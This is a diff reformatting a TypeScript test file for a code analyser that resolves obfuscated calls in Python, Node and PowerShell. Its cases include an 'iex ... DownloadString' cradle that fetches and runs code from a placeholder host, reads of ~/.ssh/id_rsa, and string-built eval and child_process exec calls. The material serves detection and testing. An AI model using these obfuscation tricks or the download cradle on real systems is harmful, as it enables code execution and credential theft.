@@ -7,7 +7,9 @@ import { tokensOf } from '../../../../consumers/governance/code/tokens.ts'
 import type { Language } from '../../../../consumers/governance/shell-commands.ts'
 
 const callsOf = (language: Language, text: string): string[] =>
-  readCode(text, language).calls.map(({ name, args }) => `${name}(${args.map((one) => one.text ?? one.path ?? '?').join(', ')})`)
+  readCode(text, language).calls.map(
+    ({ name, args }) => `${name}(${args.map((one) => one.text ?? one.path ?? '?').join(', ')})`,
+  )
 
 describe('code read call by call', () => {
   for (const [language, text, call] of [
@@ -19,17 +21,33 @@ describe('code read call by call', () => {
     ['python', 'eval("".join([chr(105), chr(100)]))', 'eval(id)'],
     ['python', 'eval(")1(tnirp"[::-1])', 'eval(print(1))'],
     ['python', 'exec("\\x70rint(1)")', 'exec(print(1))'],
-    ['python', 'import urllib.request as u\nu.urlopen("https://a.example.org")', 'urllib.request.urlopen(https://a.example.org)'],
-    ['python', 's = requests.Session()\ns.post("https://a.example.org")', 'requests.Session().post(https://a.example.org)'],
+    [
+      'python',
+      'import urllib.request as u\nu.urlopen("https://a.example.org")',
+      'urllib.request.urlopen(https://a.example.org)',
+    ],
+    [
+      'python',
+      's = requests.Session()\ns.post("https://a.example.org")',
+      'requests.Session().post(https://a.example.org)',
+    ],
     ['python', 'open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa"))', 'open(~/.ssh/id_rsa)'],
-    ['python', 'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()', 'pathlib.Path.home().read_text()'],
+    [
+      'python',
+      'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()',
+      'pathlib.Path.home().read_text()',
+    ],
     ['node', 'const { exec: e } = require("child_" + "process"); e("id")', 'child_process.exec(id)'],
     ['node', 'const cp = require("node:child_process"); cp["ex" + "ec"]("id")', 'child_process.exec(id)'],
     ['node', 'import { readFileSync as rf } from "fs"; rf("a")', 'fs.readFileSync(a)'],
     ['node', 'globalThis["ev" + "al"]("1")', 'eval(1)'],
     ['node', 'eval(atob("YWxlcnQoMSk="))', 'eval(alert(1))'],
     ['node', 'eval(String.fromCharCode(97, 98))', 'eval(ab)'],
-    ['powershell', 'iex (New-Object Net.WebClient).DownloadString("http://a.example.org")', 'net.webclient.downloadstring(http://a.example.org)'],
+    [
+      'powershell',
+      'iex (New-Object Net.WebClient).DownloadString("http://a.example.org")',
+      'net.webclient.downloadstring(http://a.example.org)',
+    ],
     ['powershell', "I`E`X 'dir'", 'invoke-expression(dir)'],
     ['powershell', "& ('i' + 'ex') ([char]105 + [char]100)", 'invoke-expression(id)'],
     ['powershell', '& ("{1}{0}" -f "x","ie") "id"', 'invoke-expression(id)'],
@@ -62,11 +80,49 @@ describe('code read call by call', () => {
 
   it('keeps every token at its place and never fails, whatever the text', () => {
     const language = fc.constantFrom<Language>('python', 'node', 'powershell')
-    const word = fc.constantFrom('(', ')', '[', ']', '{', '}', '"', "'", '`', '${', '$x', '-f', '=>', '=', '+', '.', 'a', 'def f(', 'import', 'from', 'f"{', '\n', '\\', '/', '#', '@"', '|', '&', ',', ':', 'for', 'in', 'with', 'as', '1')
+    const word = fc.constantFrom(
+      '(',
+      ')',
+      '[',
+      ']',
+      '{',
+      '}',
+      '"',
+      "'",
+      '`',
+      '${',
+      '$x',
+      '-f',
+      '=>',
+      '=',
+      '+',
+      '.',
+      'a',
+      'def f(',
+      'import',
+      'from',
+      'f"{',
+      '\n',
+      '\\',
+      '/',
+      '#',
+      '@"',
+      '|',
+      '&',
+      ',',
+      ':',
+      'for',
+      'in',
+      'with',
+      'as',
+      '1',
+    )
     fc.assert(
       fc.property(language, fc.array(word, { maxLength: 40 }), (one, words) => {
         const text = words.join(' ')
-        for (const token of tokensOf(text, one)) if (one !== 'powershell' || token.type !== 'name') expect(text.slice(token.start, token.end)).to.equal(token.text)
+        for (const token of tokensOf(text, one))
+          if (one !== 'powershell' || token.type !== 'name')
+            expect(text.slice(token.start, token.end)).to.equal(token.text)
         readCode(text, one)
         expect(withoutMessages(text, one)).to.have.length(text.length)
       }),
@@ -75,7 +131,23 @@ describe('code read call by call', () => {
   })
 
   it('reads hostile texts in time that grows with their length', () => {
-    for (const part of ['(', '{', 'a(', 'f(f(', 'a.b[', '=/[', '`${', 'x=>', 'a,', 'x=[x,x];', 'def f(a):\n', '"', '@"\n', '& ', '-join '])
+    for (const part of [
+      '(',
+      '{',
+      'a(',
+      'f(f(',
+      'a.b[',
+      '=/[',
+      '`${',
+      'x=>',
+      'a,',
+      'x=[x,x];',
+      'def f(a):\n',
+      '"',
+      '@"\n',
+      '& ',
+      '-join ',
+    ])
       for (const language of ['python', 'node', 'powershell'] as const) {
         const before = process.cpuUsage()
         readCode(part.repeat(Math.floor(50_000 / part.length)), language)
